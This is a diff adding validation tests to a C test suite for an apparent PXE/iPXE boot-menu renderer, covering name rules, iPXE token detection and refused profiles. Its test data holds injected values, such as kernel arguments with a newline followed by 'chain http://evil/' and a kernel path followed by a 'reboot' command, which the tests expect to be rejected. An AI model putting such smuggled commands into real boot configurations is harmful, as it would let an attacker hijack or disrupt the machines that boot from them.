@@ -197,6 +197,7 @@ static struct boot_profile p_debian = {
 		.n_initrds = 1,
 		.args = "console=ttyS0 BOOTIF=01-${net0/mac:hexhyp} priority=critical",
 	},
+	.raw_ipxe = true,
 };
 
 static struct boot_profile p_live = {
@@ -494,6 +495,106 @@ static void test_errors(void)
 	p = p_menu;
 	p.menu.items[2].target = &p_menu;
 	expect_rc(boot_render_pxelinux(&b, &req_ipxe, &p, &pc01), -EINVAL, &b, "pxelinux menu item target of another name");
+}
+
+/* ---- the name rule, iPXE tokens, and the reasons of refusals --------------- */
+
+static void expect_refused(int rc, struct boot_buf *b, const char *field, const char *what)
+{
+	check(rc == -EINVAL && b->len == 0 && b->field && !strcmp(b->field, field) &&
+	      b->why && strlen(b->why) > 10, "%s -> -EINVAL, field %s, with a reason", what, field);
+	if (rc != -EINVAL || !b->field || strcmp(b->field, field))
+		printf("# got %d, field %s, why %s\n", rc, b->field ? b->field : "(none)",
+		       b->why ? b->why : "(none)");
+}
+
+static void test_rules(void)
+{
+	static const char *const good[] = {
+		"a", "0", "pc01", "mac-525400aabb01", "lab.room-1", "9.9",
+		"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
+	};
+	static const char *const bad[] = {
+		"", ".", "..", "-x", ".hidden", "_x", "a_b", "Upper", "a/b", "a b", "a:b",
+		"a\nb", "${x}", "x;y", "\xc3\xa9",
+		"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
+	};
+	static const char *const plain_args[] = {
+		"", "console=ttyS0 quiet", "root=/dev/sda1 ro", "a|b", "a&b", "$x", "{x}",
+	};
+	static const char *const token_args[][2] = {
+		{ "a || b", "||" }, { "a&&b", "&&" }, { "a;b", ";" }, { "a #b", "#" },
+		{ "BOOTIF=${net0/mac}", "${" }, { "a\nb", "\n" }, { "a\rb", "\r" },
+	};
+	struct boot_buf b;
+	struct boot_profile p;
+	struct boot_request r = req_ipxe;
+	size_t i;
+	int bad_good = 0, bad_bad = 0;
+
+	for (i = 0; i < sizeof(good) / sizeof(good[0]); i++)
+		if (!boot_name_valid(good[i]))
+			bad_good++, printf("# refused: %s\n", good[i]);
+	for (i = 0; i < sizeof(bad) / sizeof(bad[0]); i++)
+		if (boot_name_valid(bad[i]))
+			bad_bad++, printf("# accepted: %s\n", bad[i]);
+	check(!bad_good && !boot_name_valid(NULL), "name rule: %zu good names accepted",
+	      sizeof(good) / sizeof(good[0]));
+	check(!bad_bad, "name rule: %zu bad names (., .., -x, _, upper case, 65 chars...) refused",
+	      sizeof(bad) / sizeof(bad[0]));
+	for (i = 0; i < sizeof(plain_args) / sizeof(plain_args[0]); i++)
+		check(!boot_ipxe_token(plain_args[i]), "no iPXE token in \"%s\"", plain_args[i]);
+	for (i = 0; i < sizeof(token_args) / sizeof(token_args[0]); i++) {
+		const char *t = boot_ipxe_token(token_args[i][0]);
+
+		check(t && !strcmp(t, token_args[i][1]), "iPXE token %s found", token_args[i][1]);
+	}
+	check(!boot_ipxe_token(NULL), "no iPXE token in NULL");
+
+	boot_buf_init(&b, out_mem, sizeof(out_mem));
+	p = p_debian;
+	p.raw_ipxe = false;
+	expect_refused(boot_render_ipxe(&b, &r, &p, NULL), &b, "args", "args with ${ without raw_ipxe");
+	expect_refused(boot_render_pxelinux(&b, &r, &p, NULL), &b, "args",
+		       "pxelinux: args with ${ without raw_ipxe");
+	p.lnx.args = "quiet || reboot";
+	p.raw_ipxe = true;
+	check(boot_render_ipxe(&b, &r, &p, NULL) == 0 && strstr(b.data, "quiet || reboot"),
+	      "raw_ipxe: args keep their tokens");
+	p.lnx.args = "quiet\nchain http://evil/";
+	expect_refused(boot_render_ipxe(&b, &r, &p, NULL), &b, "args", "raw_ipxe args with a newline");
+	p = p_debian;
+	p.lnx.kernel.path = "debian/12/linux\nreboot";
+	expect_refused(boot_render_ipxe(&b, &r, &p, NULL), &b, "kernel", "a kernel path with a newline");
+	expect_refused(boot_render_pxelinux(&b, &r, &p, NULL), &b, "kernel",
+		       "pxelinux: a kernel path with a newline");
+	p.lnx.kernel.path = NULL;
+	expect_refused(boot_render_ipxe(&b, &r, &p, NULL), &b, "kernel", "a linux profile without kernel");
+	p = p_debian;
+	p.lnx.initrds[0].path = "";
+	expect_refused(boot_render_ipxe(&b, &r, &p, NULL), &b, "initrds", "an empty initrd");
+	p = p_chain;
+	p.chain_url = NULL;
+	expect_refused(boot_render_ipxe(&b, &r, &p, NULL), &b, "url", "a chain profile without url");
+	p.chain_url = "menu.ipxe";
+	expect_refused(boot_render_ipxe(&b, &r, &p, NULL), &b, "url", "a chain url that is not absolute");
+	p = p_menu;
+	p.menu.items[0].key = "${x}";
+	expect_refused(boot_render_ipxe(&b, &r, &p, NULL), &b, "items", "a menu key ${x}");
+	p = p_menu;
+	p.menu.default_item = "nosuch";
+	expect_refused(boot_render_ipxe(&b, &r, &p, NULL), &b, "default", "a menu default not an item");
+	p = p_iso;
+	p.iso.image.path = NULL;
+	expect_refused(boot_render_ipxe(&b, &r, &p, NULL), &b, "image", "an iso profile without image");
+	p = p_winpe;
+	p.winpe.n_files = 0;
+	expect_refused(boot_render_ipxe(&b, &r, &p, NULL), &b, "files", "a winpe profile without files");
+	p = p_local;
+	p.name = "bad name";
+	expect_refused(boot_render_ipxe(&b, &r, &p, NULL), &b, "name", "a bad profile name");
+	boot_render_ipxe(&b, &r, &p_local, NULL);
+	check(!b.field && !b.why, "a good render leaves no reason behind");
 }
 
 /* ---- hostile client values ---------------------------------------------------- */
@@ -928,6 +1029,7 @@ int main(int argc, char **argv)
 	printf("TAP version 13\n");
 	test_golden();
 	test_errors();
+	test_rules();
 	test_hostile();
 	test_escapers();
 	test_mac();
